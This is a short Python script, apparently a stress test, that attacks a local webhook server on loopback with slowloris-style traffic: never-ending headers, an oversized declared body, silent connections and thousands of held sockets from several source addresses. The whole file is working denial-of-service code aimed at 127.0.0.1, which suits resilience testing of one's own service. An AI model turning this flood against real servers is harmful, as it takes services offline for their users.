"""Malicious senders with separate addresses on the loopback network: endless headers and bodies, silent connections, and
a growing number of them.  attack.py PORT SECONDS"""
import contextlib
import socket
import sys
import time

port, end = int(sys.argv[1]), time.monotonic() + float(sys.argv[2])
slow_head = b"POST /webhooks/github HTTP/1.1\r\nHost: x\r\nX: "
slow_body = b"POST /webhooks/github HTTP/1.1\r\nHost: x\r\nContent-Length: 20000000\r\n\r\n" + bytes(500_000)
most = 3000
held, made = [], 0


def connect(address, words):
    global made
    with contextlib.suppress(OSError):
        s = socket.socket()
        s.settimeout(0.5)
        s.bind((address, 0))
        s.connect(("127.0.0.1", port))
        made += 1
        held.append(s)
        s.sendall(words)


while time.monotonic() < end:
    for n in range(40):
        connect(f"127.0.1.{n % 4}", slow_head)
        connect(f"127.0.2.{n % 4}", slow_body if n % 8 == 0 else b"")
        connect("127.0.3.1", b"")
    for s in held:
        with contextlib.suppress(OSError):
            s.send(b"x")
    if len(held) > most:
        for s in held[: most // 2]:
            s.close()
        del held[: most // 2]
print(made)
